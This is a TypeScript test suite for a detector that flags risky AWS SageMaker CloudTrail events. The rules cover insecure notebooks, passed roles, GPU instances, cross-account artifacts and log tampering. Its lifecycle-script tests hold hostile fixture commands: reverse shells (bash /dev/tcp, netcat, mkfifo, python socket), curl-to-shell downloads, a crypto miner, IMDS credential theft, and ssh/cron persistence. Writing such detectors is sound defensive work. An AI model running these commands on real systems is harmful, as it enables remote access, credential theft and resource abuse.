import { describe, expect, it } from 'vitest';
import { ACCOUNT, OTHER_ACCOUNT, b64, classify, keyUser, ofRule, rec } from './helpers.js';

describe('scenario-event', () => {
  it('flags a successful scenario call once, listing every matched scenario, at their highest severity, weak', () => {
    // AWS's documented CreateEndpoint example, with this project's example account.
    const r = rec('CreateEndpoint', { endpointName: 'ExampleEndpoint', endpointConfigName: 'ExampleEndpointConfig' }, {
      userIdentity: keyUser,
      responseElements: { endpointArn: `arn:aws:sagemaker:us-west-2:${ACCOUNT}:endpoint/exampleendpoint` },
      awsRegion: 'us-west-2',
    });
    const [f, ...rest] = ofRule(classify([r]), 'scenario-event');
    expect(rest).toEqual([]);
    expect(f).toMatchObject({
      id: `scenario-event:${r.eventID}`,
      scenarios: ['data-poisoning', 'resource-misuse', 'denial-of-service'],
      severity: 'high',
      confidence: 'weak',
      region: 'us-west-2',
      account: ACCOUNT,
      eventName: 'CreateEndpoint',
      resources: [`arn:aws:sagemaker:us-west-2:${ACCOUNT}:endpoint/exampleendpoint`],
      principal: { arn: keyUser.arn, type: 'IAMUser', accessKeyId: 'AKIAIOSFODNN7EXAMPLE', key: keyUser.arn },
    });
    expect(f?.reason).toContain('data-poisoning, resource-misuse, denial-of-service');
    expect(f?.mitre).toEqual(['T1565.001', 'T1496.001', 'T1499']);
  });

  it('leaves failed calls and unlisted calls alone', () => {
    const failed = rec('CreateEndpoint', { endpointName: 'e', endpointConfigName: 'c' }, { errorCode: 'AccessDenied', errorMessage: 'not authorized' });
    const unlisted = rec('ListNotebookInstances', {}, { readOnly: true });
    expect(ofRule(classify([failed, unlisted]), 'scenario-event')).toEqual([]);
  });

  it('ignores the look-alike source metrics-sagemaker.amazonaws.com entirely', () => {
    const r = rec('CreateEndpoint', { endpointName: 'e' }, { eventSource: 'metrics-sagemaker.amazonaws.com' });
    expect(classify([r])).toEqual([]);
  });
});

describe('notebook-insecure-config', () => {
  const create = (extra: Record<string, unknown>) =>
    rec('CreateNotebookInstance', {
      notebookInstanceName: 'nb-1',
      instanceType: 'ml.t3.medium',
      roleArn: `arn:aws:iam::${ACCOUNT}:role/service-role/AmazonSageMaker-ExecutionRole-20261127T000001`,
      ...extra,
    }, { responseElements: { notebookInstanceArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance/nb-1` } });

  it('flags both settings enabled by default when a create request omits them', () => {
    const [f] = ofRule(classify([create({})]), 'notebook-insecure-config');
    expect(f?.severity).toBe('medium');
    expect(f?.reason).toBe(
      'CreateNotebookInstance with RootAccess Enabled (by default: not set in the request) and DirectInternetAccess Enabled (by default: not set in the request)',
    );
    expect(f?.evidence).toEqual({ rootAccess: 'Enabled', rootAccessByDefault: true, directInternetAccess: 'Enabled', directInternetAccessByDefault: true });
    expect(f?.resources).toEqual([`arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance/nb-1`]);
  });

  it('flags an explicit Enabled and says it was explicit', () => {
    const [f] = ofRule(classify([create({ rootAccess: 'Enabled', directInternetAccess: 'Disabled' })]), 'notebook-insecure-config');
    expect(f?.reason).toBe('CreateNotebookInstance with RootAccess Enabled');
    expect(f?.evidence).toEqual({ rootAccess: 'Enabled', rootAccessByDefault: false });
  });

  it('does not flag a notebook created with both Disabled, nor an update that leaves them unset', () => {
    const safe = create({ rootAccess: 'Disabled', directInternetAccess: 'Disabled' });
    const update = rec('UpdateNotebookInstance', { notebookInstanceName: 'nb-1', instanceType: 'ml.t3.large' });
    expect(ofRule(classify([safe, update]), 'notebook-insecure-config')).toEqual([]);
  });

  it('flags an update that enables root access', () => {
    const update = rec('UpdateNotebookInstance', { notebookInstanceName: 'nb-1', rootAccess: 'Enabled' });
    const [f] = ofRule(classify([update]), 'notebook-insecure-config');
    expect(f?.reason).toBe('UpdateNotebookInstance with RootAccess Enabled');
    expect(f?.resources).toEqual(['nb-1']);
  });
});

describe('lifecycle-script-suspicious', () => {
  const lcc = (onStart: string[], onCreate: string[] = [], name = 'CreateNotebookInstanceLifecycleConfig') =>
    rec(name, {
      notebookInstanceLifecycleConfigName: 'lcc-1',
      onCreate: onCreate.map((c) => ({ content: c })),
      onStart: onStart.map((c) => ({ content: c })),
    });

  it('decodes OnStart and shows the reverse-shell line and its hook', () => {
    const script = '#!/bin/bash\nset -e\n  bash -i >& /dev/tcp/198.51.100.7/4444 0>&1  \n';
    const [f] = ofRule(classify([lcc([b64(script)])]), 'lifecycle-script-suspicious');
    expect(f).toMatchObject({ severity: 'critical', confidence: 'strong', resources: ['lcc-1'] });
    expect(f?.evidence).toEqual({
      hook: 'OnStart',
      line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      indicators: ['reverse shell: /dev/tcp redirection'],
      matchingLines: ['OnStart: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
    });
    expect(f?.reason).toBe('OnStart script: reverse shell: /dev/tcp redirection: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');
  });

  it.each([
    ['curl -fsSL http://198.51.100.7/x.sh | sudo bash', 'download and execute: piped to a shell'],
    ['wget -O- http://198.51.100.7/i | sh', 'download and execute: piped to a shell'],
    ['nohup ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4A... &', 'crypto miner'],
    ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ > /tmp/c', 'instance metadata credentials (IMDS)'],
    ['curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', 'container credentials endpoint'],
    ['echo "ssh-ed25519 AAAAC3Nza attacker" >> /home/ec2-user/.ssh/authorized_keys', 'ssh key persistence'],
    ['(crontab -l; echo "*/5 * * * * curl http://198.51.100.7/b | sh") | crontab -', 'cron persistence'],
    ['rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f', 'reverse shell: named pipe (mkfifo)'],
    ['nc -e /bin/sh 198.51.100.7 4444', 'reverse shell: netcat -e / -c'],
    [`python3 -c 'import socket,subprocess,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));pty.spawn("/bin/sh")'`, 'reverse shell: python socket with pty'],
  ])('flags %s', (line, label) => {
    const [f] = ofRule(classify([lcc([], [b64(`#!/bin/bash\n${line}\n`)])]), 'lifecycle-script-suspicious');
    expect(f?.evidence.hook).toBe('OnCreate');
    expect(f?.evidence.line).toBe(line);
    expect(f?.evidence.indicators).toContain(label);
  });

  it('does not flag a script installing pip packages and fetching a file without running it', () => {
    const script = [
      '#!/bin/bash',
      'set -e',
      'sudo -u ec2-user -i <<EOF',
      'source /home/ec2-user/anaconda3/bin/activate python3',
      'pip install --upgrade pandas scikit-learn==1.5.2',
      'curl -o /tmp/requirements.txt https://example.com/requirements.txt',
      '# bash -i >& /dev/tcp/ in a comment is ignored',
      'EOF',
    ].join('\n');
    expect(ofRule(classify([lcc([b64(script)], [b64(script)], 'UpdateNotebookInstanceLifecycleConfig')]), 'lifecycle-script-suspicious')).toEqual([]);
  });

  it('survives content that is not base64 and still reports the other hook', () => {
    const r = lcc([b64('curl http://198.51.100.7/m | bash')], ['HIDDEN_DUE_TO_SECURITY_REASONS!']);
    const [f] = ofRule(classify([r]), 'lifecycle-script-suspicious');
    expect(f?.evidence.undecodableHooks).toEqual(['OnCreate']);
    expect(f?.evidence.hook).toBe('OnStart');
    expect(ofRule(classify([lcc([], ['not base64 at all'])]), 'lifecycle-script-suspicious')).toEqual([]);
  });
});

describe('presigned-url-access', () => {
  it('flags a presigned notebook URL with the caller address', () => {
    const r = rec('CreatePresignedNotebookInstanceUrl', { notebookInstanceName: 'nb-1', sessionExpirationDurationInSeconds: 1800 });
    const [f] = ofRule(classify([r]), 'presigned-url-access');
    expect(f?.reason).toBe('presigned URL created for nb-1 from 203.0.113.10');
    expect(f?.evidence).toEqual({ notebookInstanceName: 'nb-1', sessionExpirationDurationInSeconds: 1800 });
  });

  it('flags a presigned Studio domain URL', () => {
    const r = rec('CreatePresignedDomainUrl', { domainId: 'd-abcdef123456', userProfileName: 'alice' });
    expect(ofRule(classify([r]), 'presigned-url-access')[0]?.reason).toBe('presigned URL created for d-abcdef123456/alice from 203.0.113.10');
  });
});

describe('execution-role-passed', () => {
  const role = `arn:aws:iam::${ACCOUNT}:role/AdminRole`;
  it('flags a passed role, at medium for temporary credentials', () => {
    const r = rec('CreateTrainingJob', { trainingJobName: 'tj-1', roleArn: role, resourceConfig: { instanceType: 'ml.m5.xlarge', instanceCount: 1, volumeSizeInGB: 30 } });
    const [f] = ofRule(classify([r]), 'execution-role-passed');
    expect(f).toMatchObject({ severity: 'medium', evidence: { roleArn: role, callerCredential: 'temporary credentials' } });
    expect(f?.resources).toEqual(['tj-1', role]);
    expect(f?.reason).toBe(`CreateTrainingJob passed role ${role} (caller used temporary credentials)`);
  });

  it('raises severity when the caller used a long-term access key', () => {
    const r = rec('CreateProcessingJob', { processingJobName: 'pj-1', roleArn: role }, { userIdentity: keyUser });
    expect(ofRule(classify([r]), 'execution-role-passed')[0]).toMatchObject({ severity: 'high', evidence: { callerCredential: 'long-term access key' } });
  });

  it('does not flag other calls that carry a roleArn, or failed calls', () => {
    const other = rec('CreateModel', { modelName: 'm', executionRoleArn: role });
    const failed = rec('CreateNotebookInstance', { notebookInstanceName: 'n', roleArn: role, rootAccess: 'Disabled', directInternetAccess: 'Disabled' }, { errorCode: 'ValidationException' });
    expect(ofRule(classify([other, failed]), 'execution-role-passed')).toEqual([]);
  });
});

describe('large-instance-type', () => {
  it('finds GPU types anywhere in the request: endpoint variants, tuning job definitions', () => {
    const cfg = rec('CreateEndpointConfig', {
      endpointConfigName: 'ec-1',
      productionVariants: [
        { variantName: 'a', modelName: 'm', initialInstanceCount: 1, instanceType: 'ml.m5.large' },
        { variantName: 'b', modelName: 'm', initialInstanceCount: 4, instanceType: 'ml.g5.2xlarge' },
      ],
    });
    const hpo = rec('CreateHyperParameterTuningJob', {
      hyperParameterTuningJobName: 'hpo-1',
      trainingJobDefinition: { resourceConfig: { instanceType: 'ml.p4d.24xlarge', instanceCount: 2 } },
    });
    const found = ofRule(classify([cfg, hpo]), 'large-instance-type');
    expect(found.map((f) => f.evidence.instanceTypes)).toEqual([['ml.g5.2xlarge'], ['ml.p4d.24xlarge']]);
    expect(found[0]?.reason).toBe('CreateEndpointConfig asked for ml.g5.2xlarge (GPU/accelerated family)');
  });

  it('flags a very large CPU size but not ordinary CPU instances', () => {
    const big = rec('CreateProcessingJob', { processingJobName: 'p', processingResources: { clusterConfig: { instanceType: 'ml.c5.18xlarge', instanceCount: 1 } } });
    const small = rec('CreateNotebookInstance', { notebookInstanceName: 'n', instanceType: 'ml.t3.medium', rootAccess: 'Disabled', directInternetAccess: 'Disabled' });
    const mid = rec('CreateTrainingJob', { trainingJobName: 't', resourceConfig: { instanceType: 'ml.m5.4xlarge' } });
    const found = ofRule(classify([big, small, mid]), 'large-instance-type');
    expect(found.map((f) => f.reason)).toEqual(['CreateProcessingJob asked for ml.c5.18xlarge (size >= 12xlarge)']);
  });
});

describe('cross-account-artifact', () => {
  it('flags an ECR image and a KMS key of another account, with the field paths', () => {
    const image = `${OTHER_ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/miner:latest`;
    const key = `arn:aws:kms:us-east-1:${OTHER_ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab`;
    const r = rec('CreateTrainingJob', {
      trainingJobName: 'tj-x',
      algorithmSpecification: { trainingImage: image, trainingInputMode: 'File' },
      outputDataConfig: { s3OutputPath: 's3://some-bucket/out', kmsKeyId: key },
    });
    const [f] = ofRule(classify([r]), 'cross-account-artifact');
    expect(f?.evidence).toEqual({
      artifacts: [`algorithmSpecification.trainingImage: ${image}`, `outputDataConfig.kmsKeyId: ${key}`],
      foreignAccounts: [OTHER_ACCOUNT],
      eventAccount: ACCOUNT,
    });
    expect(f?.resources).toEqual([image, key]);
    expect(f?.reason).toContain(`2 artifacts in account ${OTHER_ACCOUNT} (event account ${ACCOUNT})`);
  });

  it('does not flag own-account images, AWS prebuilt images, or plain bucket names', () => {
    const r = rec('CreateModel', {
      modelName: 'm',
      primaryContainer: { image: `${ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/mine:1`, modelDataUrl: 's3://other-team-bucket/model.tar.gz' },
      containers: [{ image: '763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-inference:2.1-gpu-py310' }],
    });
    expect(ofRule(classify([r]), 'cross-account-artifact')).toEqual([]);
  });

  it('reads the account of an S3 access point ARN used as output', () => {
    const ap = `arn:aws:s3:us-east-1:${OTHER_ACCOUNT}:accesspoint/exfil`;
    const r = rec('CreateTransformJob', { transformJobName: 't', transformOutput: { s3OutputPath: `s3://${ap}/out/` } });
    expect(ofRule(classify([r]), 'cross-account-artifact')[0]?.evidence.foreignAccounts).toEqual([OTHER_ACCOUNT]);
  });
});

describe('log-tampering', () => {
  const trail = `arn:aws:cloudtrail:us-east-1:${ACCOUNT}:trail/management-events`;
  it('flags StopLogging on a trail', () => {
    const r = rec('StopLogging', { name: trail }, { eventSource: 'cloudtrail.amazonaws.com' });
    const [f] = ofRule(classify([r]), 'log-tampering');
    expect(f).toMatchObject({ severity: 'high', scenarios: ['log-tampering'], reason: `StopLogging on ${trail}`, evidence: { target: trail, succeeded: true } });
  });

  it('flags a denied DeleteTrail attempt as an attempt', () => {
    const r = rec('DeleteTrail', { name: trail }, { eventSource: 'cloudtrail.amazonaws.com', errorCode: 'AccessDenied' });
    expect(ofRule(classify([r]), 'log-tampering')[0]?.reason).toBe(`attempted DeleteTrail on ${trail} (failed: AccessDenied)`);
  });

  it('flags deletions and retention changes only on /aws/sagemaker/ log groups', () => {
    const logs = { eventSource: 'logs.amazonaws.com' };
    const del = rec('DeleteLogGroup', { logGroupName: '/aws/sagemaker/TrainingJobs' }, logs);
    const ret = rec('PutRetentionPolicy', { logGroupName: '/aws/sagemaker/Endpoints/ep-1', retentionInDays: 1 }, logs);
    const other = rec('DeleteLogGroup', { logGroupName: '/aws/lambda/my-fn' }, logs);
    const found = ofRule(classify([del, ret, other]), 'log-tampering');
    expect(found.map((f) => f.reason)).toEqual(['DeleteLogGroup on /aws/sagemaker/TrainingJobs', 'PutRetentionPolicy on /aws/sagemaker/Endpoints/ep-1']);
    expect(found[1]?.evidence.retentionInDays).toBe(1);
  });
});
